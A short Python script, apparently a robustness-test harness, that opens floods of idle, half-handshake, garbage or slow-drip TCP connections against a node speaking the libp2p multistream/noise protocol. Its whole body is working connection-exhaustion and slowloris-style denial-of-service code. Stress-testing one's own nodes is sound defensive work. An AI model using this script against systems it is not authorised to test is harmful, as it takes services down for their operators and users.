#!/usr/bin/python3
"""send_hostile.py HOW ADDRESS PORT...: a client that means harm, at a node that listens on TCP.

	connects N     N connections that say nothing, all held as long as they live
	half N         N connections that begin the handshake and say no more
	garbage N      N connections that send random bytes
	slow N         N connections that send one byte of a handshake a second, for 8 seconds
"""
import os
import socket
import sys
import time


def connect(host, port):
    s = socket.socket()
    s.settimeout(5)
    s.connect((host, port))
    s.setblocking(False)
    return s


def send(s, data):
    try:
        s.send(data)
        return True
    except OSError:
        return False


how, n, host, port = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
begin = b"\x13/multistream/1.0.0\n\x07/noise\n"
held = []
for i in range(n):
    try:
        s = connect(host, port)
    except OSError as e:
        if e.errno == 24:  # no more descriptors here: the oldest go
            held[:100] = []
            continue
        raise
    if how == "half":
        send(s, begin + b"\x00\x20" + os.urandom(32))
    if how == "garbage":
        send(s, os.urandom(300))
    held.append(s)
    if len(held) > 900:
        held.pop(0).close()
if how == "slow":
    for k in range(8):
        held = [s for s in held if send(s, begin[k:k + 1])]
        time.sleep(1)
print(len(held))
